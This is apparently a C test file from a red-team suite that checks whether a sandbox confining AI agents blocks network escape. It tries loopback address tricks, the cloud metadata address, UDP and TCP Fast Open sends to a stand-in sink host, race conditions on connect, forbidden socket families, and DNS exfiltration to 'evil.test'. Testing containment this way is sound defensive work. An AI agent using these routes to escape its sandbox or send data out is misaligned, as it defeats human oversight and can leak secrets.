// Ways out over the network. The listeners of the host decide; no agent may ever reach them this
// way.
#define GROUP "network"
#include <netdb.h>
#include <netinet/tcp.h>

#include "attack.h"

#define ROUTE "own network namespace without a way out"
#define JUDGED "connects are judged"
#define FAST "filter: MSG_FASTOPEN"

static struct sockaddr_in loopback(void) {
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(env("RED_HOST_PORT")))};
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return a;
}
static int connect_and_send(int family, const void* a, socklen_t size) {
  int s = socket(family, SOCK_STREAM, 0);
  if (s < 0 || connect(s, a, size)) return worked("connect", -1);
  return sends(s, "send");
}
static int by_text(const char* host) {
  struct addrinfo *found, hint = {.ai_socktype = SOCK_STREAM, .ai_flags = AI_NUMERICHOST};
  if (getaddrinfo(host, env("RED_HOST_PORT"), &hint, &found))
    return SAY("%s is no address here", host), HELD;
  return connect_and_send(found->ai_family, found->ai_addr, found->ai_addrlen);
}
ATTACK(host_loopback, kClean | kBare, ROUTE) { return by_text("127.0.0.1"); }
ATTACK(host_loopback_other, kClean, ROUTE) { return by_text("127.0.0.2"); }
ATTACK(address_mapped, kClean | kBare, ROUTE) { return by_text("::ffff:127.0.0.1"); }
ATTACK(address_of_nobody, kClean | kBare, ROUTE) { return by_text("0.0.0.0"); }
ATTACK(address_decimal, kClean | kBare, ROUTE) { return by_text("2130706433"); }
ATTACK(address_octal, kClean | kBare, ROUTE) { return by_text("0177.0.0.01"); }
ATTACK(address_hexadecimal, kClean | kBare, ROUTE) { return by_text("0x7f000001"); }
ATTACK(address_short, kClean | kBare, ROUTE) { return by_text("127.1"); }
ATTACK(address_v6_loopback, kClean | kBare, ROUTE) { return by_text("::1"); }
ATTACK(address_v6_scoped, kClean | kBare, ROUTE) {
  struct sockaddr_in6 a = {
      .sin6_family = AF_INET6, .sin6_port = loopback().sin_port, .sin6_scope_id = 1};
  inet_pton(AF_INET6, "::1", &a.sin6_addr);
  return connect_and_send(AF_INET6, &a, sizeof a);
}
ATTACK(address_v6_any, kClean | kBare, ROUTE) { return by_text("::"); }
// The real one is never asked without certgate: no control.
static int refused(const char* host, const char* port) {
  struct addrinfo *found, hint = {.ai_socktype = SOCK_STREAM, .ai_flags = AI_NUMERICHOST};
  if (getaddrinfo(host, port, &hint, &found)) return SAY("%s is no address here", host), HELD;
  int s = socket(found->ai_family, SOCK_STREAM, 0);
  return worked(host, connect(s, found->ai_addr, found->ai_addrlen));
}
ATTACK(metadata_address, kClean, JUDGED) { return refused("169.254.169.254", "80"); }
ATTACK(metadata_address_mapped, kClean, JUDGED) { return refused("::ffff:169.254.169.254", "80"); }
ATTACK(metadata_address_v6, kClean, JUDGED) { return refused("fd00:ec2::254", "80"); }
ATTACK(multicast_address, kClean, JUDGED) { return refused("224.0.0.1", "80"); }

static int as_agent_only(void) { return is_bare() ? SKIP : HELD; }
static void datagram_to(const char* host, int flags) {
  struct sockaddr_in a = loopback();
  a.sin_addr.s_addr = inet_addr(host);
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  sendto(s, evidence(), 6, flags, (struct sockaddr*)&a, sizeof a);
}
ATTACK(udp_sendto, kClean, ROUTE) {
  datagram_to("127.0.0.1", 0), datagram_to("192.0.2.1", 0), datagram_to("255.255.255.255", 0);
  return as_agent_only();  // the listener outside decides
}
ATTACK(udp_connected, kClean, ROUTE) {
  struct sockaddr_in a = loopback();
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (connect(s, (struct sockaddr*)&a, sizeof a) == 0) send(s, evidence(), 6, 0);
  return as_agent_only();
}
ATTACK(udp_sendmmsg, kClean, ROUTE) {
  struct sockaddr_in a = loopback();
  struct iovec iov = {(char*)evidence(), 6};
  struct mmsghdr m[4];
  for (int i = 0; i < 4; ++i)
    m[i].msg_hdr =
        (struct msghdr){.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &iov, .msg_iovlen = 1};
  sendmmsg(socket(AF_INET, SOCK_DGRAM, 0), m, 4, 0);
  return as_agent_only();
}
ATTACK(udp_v6, kClean, ROUTE) {
  struct sockaddr_in6 a = {.sin6_family = AF_INET6, .sin6_port = loopback().sin_port};
  inet_pton(AF_INET6, "::ffff:127.0.0.1", &a.sin6_addr);
  sendto(socket(AF_INET6, SOCK_DGRAM, 0), evidence(), 6, 0, (struct sockaddr*)&a, sizeof a);
  return as_agent_only();
}
static int fast(struct sockaddr_in a, int how) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct iovec iov = {(char*)evidence(), 6};
  struct mmsghdr m = {
      .msg_hdr = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &iov, .msg_iovlen = 1}};
  const int flags = MSG_FASTOPEN | MSG_NOSIGNAL;
  if (how == 0)
    return worked("sendto", sendto(s, evidence(), 6, flags, (struct sockaddr*)&a, sizeof a));
  if (how == 1) return worked("sendmsg", sendmsg(s, &m.msg_hdr, flags));
  return worked("sendmmsg", sendmmsg(s, &m, 1, flags));
}
ATTACK(fast_open_sendto, kTainted | kBare, FAST) {
  return fast(endpoint("sink.test", "9000", "RED_SINK"), 0);
}
ATTACK(fast_open_sendmsg, kTainted | kBare, FAST) {
  return fast(endpoint("sink.test", "9000", "RED_SINK"), 1);
}
ATTACK(fast_open_sendmmsg, kTainted | kBare, FAST) {
  return fast(endpoint("sink.test", "9000", "RED_SINK"), 2);
}
ATTACK(fast_open_loopback, kClean | kBare, FAST) { return fast(loopback(), 0); }
ATTACK(fast_open_connect, kTainted | kBare, JUDGED) {
  int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = endpoint("sink.test", "9000", "RED_SINK");
  setsockopt(s, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
  if (connect(s, (struct sockaddr*)&a, sizeof a)) return worked("connect", -1);
  return sends(s, "send");
}
ATTACK(unspec_then_connect, kTainted | kBare, JUDGED) {
  int s = page();
  struct sockaddr a = {.sa_family = AF_UNSPEC};
  connect(s, &a, sizeof a);
  struct sockaddr_in to = endpoint("sink.test", "9000", "RED_SINK");
  if (connect(s, (struct sockaddr*)&to, sizeof to)) return worked("connect", -1);
  return sends(s, "send");
}
ATTACK(late_sink, kTainted | kBare, JUDGED) {
  int s = sink();
  return s < 0 ? worked("connect", -1) : sends(s, "send");
}
ATTACK(late_sink_non_blocking, kTainted | kBare, JUDGED) {
  struct sockaddr_in a = endpoint("sink.test", "9000", "RED_SINK");
  int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (connect(s, (struct sockaddr*)&a, sizeof a) && errno != EINPROGRESS)
    return worked("connect", -1);
  struct pollfd p = {s, POLLOUT, 0};
  poll(&p, 1, 500);
  return sends(s, "send");
}
ATTACK(connect_as_other_family, kTainted, JUDGED) {
  struct sockaddr_in a = endpoint("sink.test", "9000", "RED_SINK");
  struct sockaddr_in6 b = {.sin6_family = AF_INET6, .sin6_port = a.sin_port};
  b.sin6_addr.s6_addr[10] = b.sin6_addr.s6_addr[11] = 0xff;
  memcpy(b.sin6_addr.s6_addr + 12, &a.sin_addr, 4);
  return connect_and_send(AF_INET6, &b, sizeof b);
}

// --- races
// -----------------------------------------------------------------------------------------

static struct sockaddr_in good, bad, shared;
static int fd_slot, sockets[2];
static void wait_a_little(void) {
  for (int i = 0; i < 300; ++i) __asm__ volatile("pause" ::: "memory");
}
static void* flip_address(void* x) {
  while (!stop) shared = good, wait_a_little(), shared = bad, wait_a_little();
  return x;
}
static int connect_shared(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in peer = {0};
  socklen_t size = sizeof peer;
  int verdict = 0;
  if (connect(s, (struct sockaddr*)&shared, sizeof shared) == 0) {
    getpeername(s, (struct sockaddr*)&peer, &size);
    verdict = 1;
    if (peer.sin_port == bad.sin_port && peer.sin_addr.s_addr == bad.sin_addr.s_addr) {
      send(s, evidence(), 6, MSG_NOSIGNAL);
      verdict = 2;
    }
  }
  close(s);
  return verdict;
}
ATTACK(connect_address_flip, kTainted | kBare,
       "the address is copied once and connected by the supervisor") {
  good = endpoint("page.test", "80", "RED_PAGE"), bad = endpoint("sink.test", "9000", "RED_SINK");
  if (!good.sin_family || !bad.sin_family) return SAY("names are not resolved"), SKIP;
  shared = good;
  return race(connect_shared, flip_address, 2);
}
static void* flip_socket(void* x) {
  while (!stop) dup2(sockets[0], fd_slot), sched_yield(), dup2(sockets[1], fd_slot), sched_yield();
  return x;
}
static struct sockaddr_un host_socket(void) {
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  strcpy(a.sun_path, "host.sock");
  return a;
}
static int connect_slot(void) {
  struct sockaddr_un a = host_socket();
  if (connect(fd_slot, (struct sockaddr*)&a, sizeof a)) return 0;
  send(sockets[1], evidence(), 6, MSG_NOSIGNAL);
  return 2;
}
ATTACK(connect_descriptor_swap, kClean | kBare,
       "the socket is pinned, then its family is read from it") {
  sockets[0] = socket(AF_INET, SOCK_STREAM, 0), sockets[1] = socket(AF_UNIX, SOCK_STREAM, 0),
  fd_slot = dup(sockets[0]);
  return race(connect_slot, flip_socket, 2);
}
enum { kConnectors = 6 };
static atomic_int tainted_now, connecting[kConnectors];
static void* connect_loop(void* slot) {
  atomic_int* mine = slot;
  while (!stop && !tainted_now) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    *mine = s;
    connect(s, (struct sockaddr*)&bad, sizeof bad);
    if (tainted_now) usleep(50000);
    *mine = 0;
    close(s);
  }
  return 0;
}
static void* send_loop(void* x) {
  for (int i = 0; !stop; i = (i + 1) % kConnectors) {
    int s = connecting[i];
    if (tainted_now && s > 0) send(s, evidence(), 6, MSG_NOSIGNAL | MSG_DONTWAIT);
  }
  return x;
}
static void* refused_loop(void* x) {
  while (!stop)
    rename("scratch/none", "src/none"), open("/etc/none", O_WRONLY | O_CREAT, 0644),
        unlink("src/hello.c/");
  return x;
}
// Sends on a socket while its connect is still under way, from the moment the label has risen. Only
// the sink can tell.
ATTACK(connect_during_raise, kClean,
       "a raise waits for connects under way and shuts what it must") {
  bad = endpoint("sink.test", "9000", "RED_SINK");
  if (!bad.sin_family) return SAY("no sink"), SKIP;
  pthread_t t;
  for (int i = 0; i < kConnectors; ++i) pthread_create(&t, 0, connect_loop, &connecting[i]);
  pthread_create(&t, 0, send_loop, 0);
  pthread_create(&t, 0, refused_loop, 0);
  usleep(4000);
  if (taint()) return SAY("no page"), SKIP;
  tainted_now = 1;
  usleep(60000);
  stop = 1;
  usleep(60000);
  return HELD;
}

// --- sockets that are not to be had
// ----------------------------------------------------------------

#define FAMILIES "filter: an allow-list of socket families and types"
#define SOCKET(id, bits, domain, type, protocol) \
  ATTACK(id, bits, FAMILIES) { return closed("socket", socket(domain, type, protocol)); }
SOCKET(socket_raw_tcp, kClean | kBareRoot, AF_INET, SOCK_RAW, IPPROTO_TCP)
SOCKET(socket_raw_icmp, kClean | kBareRoot, AF_INET, SOCK_RAW, IPPROTO_ICMP)
SOCKET(socket_packet, kClean | kBareRoot, AF_PACKET, SOCK_RAW, 0)
SOCKET(socket_vsock, kClean | kBare, 40, SOCK_STREAM, 0)
SOCKET(socket_algorithms, kClean | kBare, 38, SOCK_SEQPACKET, 0)
SOCKET(socket_netlink_audit, kClean | kBareRoot, AF_NETLINK, SOCK_RAW, 9)
SOCKET(socket_netlink_events, kClean | kBare, AF_NETLINK, SOCK_RAW, 15)
SOCKET(socket_unix_datagram, kClean | kBare, AF_UNIX, SOCK_DGRAM, 0)
SOCKET(socket_unix_raw, kClean | kBare, AF_UNIX, SOCK_RAW, 0)
ATTACK(socket_dirty_high_half, kClean | kBare, FAMILIES) {
  return closed("socket", syscall(SYS_socket, AF_UNIX | 1L << 32, SOCK_DGRAM | 1L << 32, 0));
}
ATTACK(socketpair_datagram, kClean | kBare, FAMILIES) {
  int pair[2];
  return closed("socketpair", socketpair(AF_UNIX, SOCK_DGRAM, 0, pair));
}
ATTACK(name_that_no_rule_allows, kClean, "names are answered only for what a rule could allow") {
  struct addrinfo* found;
  const int error = getaddrinfo("c2VjcmV0.evil.test", "80", 0, &found);
  return SAY("%s", error ? gai_strerror(error) : "resolved"), error ? HELD : VIOLATION;
}
ATTACK(own_resolver, kClean, ROUTE) {
  static const unsigned char query[] = "\x12\x34\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1";
  const char* servers[] = {"127.0.0.53", "8.8.8.8", "169.254.169.253"};
  for (int i = 0; i < 3; ++i) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(53)};
    a.sin_addr.s_addr = inet_addr(servers[i]);
    if (is_bare()) return SKIP;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    unsigned char answer[512];
    struct pollfd p = {s, POLLIN, 0};
    sendto(s, query, sizeof query - 1, 0, (struct sockaddr*)&a, sizeof a);
    // An answer that refuses is our own resolver's; one with an address came from elsewhere.
    if (poll(&p, 1, 150) == 1 && recv(s, answer, sizeof answer, 0) > 12 && answer[7])
      return SAY("%s answered", servers[i]), VIOLATION;
  }
  return HELD;
}
